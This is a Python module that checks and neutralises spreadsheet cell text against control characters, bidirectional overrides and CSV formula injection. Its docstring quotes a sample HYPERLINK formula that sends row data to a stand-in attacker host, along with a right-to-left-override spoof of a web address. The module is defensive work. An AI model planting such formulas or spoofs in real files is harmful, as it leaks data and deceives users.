"""The rules for one cell's text, the same wherever text comes in or goes out.

``assetmap check``, the issue forms, ``apply-issue``, the write-back into a steward's file and
the exports all use these functions, so that anything ``check`` passes also builds, exports
and writes back.

Characters. A cell may hold any printable text. Refused everywhere:

- control characters (C0 and C1, DEL), except a tab and, in the columns that take several
  lines, a line break: they are invisible, a terminal runs some of them (ESC), and XML, so
  the XLSX exports, cannot hold them at all;
- the bidirectional embeddings and overrides U+202A to U+202E: an override shows text in
  another order than it is stored (``https://evil.example/\u202egro.elpmaxe``), which is how
  addresses and names are spoofed; no text needs them where the page sets its direction;
- invisible characters with no job in this kind of text: zero-width space U+200B, word
  joiner U+2060, the invisible mathematical operators U+2061 to U+2064, the deprecated
  format characters U+206A to U+206F, a byte-order mark U+FEFF inside text (one at the start
  of a file is read as the byte-order mark), interlinear annotations U+FFF9 to U+FFFB, the
  Mongolian vowel separator U+180E, and the line and paragraph separators U+2028 and U+2029,
  line breaks that look like nothing in a spreadsheet.

Allowed in free text (names, descriptions, hours...; every language's column), each because
real text in the site's languages uses it: zero-width non-joiner U+200C (Persian, Urdu and
Indic scripts: where letters must not join) and joiner U+200D (emoji sequences such as
families and flags, Indic conjuncts); the marks LRM U+200E, RLM U+200F and ALM U+061C, and
the isolates U+2066 to U+2069 (Arabic text that quotes a Latin name or a number keeps its
order with them); the soft hyphen U+00AD (a hyphenation hint in long words); the Arabic
number signs U+0600 to U+0605 and U+06DD; tag characters U+E0020 to U+E007F (subdivision
flags such as Scotland's). Any other format character (Unicode category Cf) is refused.

In the columns that are codes, not prose (id, web address, email, phone, categories,
languages, dates, coordinates...), no invisible or format character at all is allowed:
there, one only hides a difference between two values that look the same.

Formulas. A spreadsheet runs a cell that starts with '=', '+', '-' or '@' (or a tab or a
carriage return before one) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "x")``
sends the row next to it anywhere (OWASP "CSV injection"). Text that assetmap writes into a
spreadsheet is therefore neutralised: in CSV, with a leading apostrophe, which reading drops
again; in XLSX, as a text cell (never a formula) with Excel's quote prefix. ``neutralise`` and
``unneutralise`` are exact inverses for every text.
"""

from __future__ import annotations

import unicodedata

# Characters that make a spreadsheet read a typed-in or CSV cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

# Excel's own limit for the text of one cell: longer text cannot be kept in a spreadsheet.
EXCEL_CELL_LIMIT = 32_767

LINE_BREAKS = "\n\r"
TAB = "\t"

# Format characters (Unicode category Cf) that free text may hold; see the module docstring.
ALLOWED_IN_TEXT = frozenset(
    [0x00AD, 0x061C, 0x200C, 0x200D, 0x200E, 0x200F, 0x06DD]
    + list(range(0x0600, 0x0606))
    + list(range(0x2066, 0x206A))
    + list(range(0xE0020, 0xE0080))
)
# Refused even though their category is not Cf, or named for what they do.
ALWAYS_REFUSED = {
    0x2028: "a line separator",
    0x2029: "a paragraph separator",
    0x202A: "a left-to-right embedding",
    0x202B: "a right-to-left embedding",
    0x202C: "a pop directional formatting",
    0x202D: "a left-to-right override",
    0x202E: "a right-to-left override",
    0x200B: "a zero-width space",
    0x2060: "a word joiner",
    0xFEFF: "a zero-width no-break space",
}


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text``, typed in or in a CSV cell, as a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """Text a spreadsheet shows as text: a leading apostrophe before a formula character.

    Text that already starts with apostrophes before a formula character gets one more, so
    that ``unneutralise`` gives back exactly ``text``. Only for text cells: numbers (a
    longitude of -74.7) are written as they are, because a number cannot run anything.
    """
    return QUOTE + text if looks_like_formula(text.lstrip(QUOTE)) else text


def unneutralise(text: str) -> str:
    """The text a neutralised cell stands for: ``neutralise``'s inverse."""
    if text.startswith(QUOTE) and looks_like_formula(text.lstrip(QUOTE)):
        return text[1:]
    return text


def _kind(char: str) -> str:
    code = ord(char)
    if code in ALWAYS_REFUSED:
        return ALWAYS_REFUSED[code]
    if unicodedata.category(char) == "Cc":
        return "a control character"
    return "an invisible character"


def refused_characters(text: str, free_text: bool = True, lines: bool = False) -> list[str]:
    """What is wrong with the characters of ``text``: each kind of refused character it
    holds, with their code points, in order of first appearance ([] when all is well), e.g.
    ``['a control character (U+0007, U+001B)', 'a right-to-left override (U+202E)']``.

    ``free_text`` is True for prose columns (which may hold the joiners and marks real text
    needs), False for code-like columns; ``lines`` allows line breaks.
    """
    if text.isprintable():
        return []  # the usual case, decided in C: no control, format or separator character
    found: dict[str, dict[str, None]] = {}
    for char in text:
        if char.isprintable() or char == " ":
            continue  # every character below is a control, format or separator character
        if refused_character(char, free_text, lines):
            found.setdefault(_kind(char), {})[f"U+{ord(char):04X}"] = None
    return [f"{kind} ({', '.join(codes)})" for kind, codes in found.items()]


def refused_character(char: str, free_text: bool = True, lines: bool = False) -> bool:
    code = ord(char)
    if code in ALWAYS_REFUSED:
        return True
    if char == TAB:
        return False
    if char in LINE_BREAKS:
        return not lines
    category = unicodedata.category(char)
    if category == "Cc":
        return True
    if category == "Cf":
        return not (free_text and code in ALLOWED_IN_TEXT)
    return category in ("Zl", "Zp")


def visible(text: str) -> str:
    """``text`` safe to print on a terminal or in a message: every refused character shown
    as its code point (``\\x1b`` -> ``<U+001B>``), so no escape sequence runs and nothing
    hides."""
    if all(c.isprintable() or c == " " for c in text):
        return text
    return "".join(f"<U+{ord(c):04X}>" if refused_character(c, free_text=False, lines=False)
                   else c for c in text)
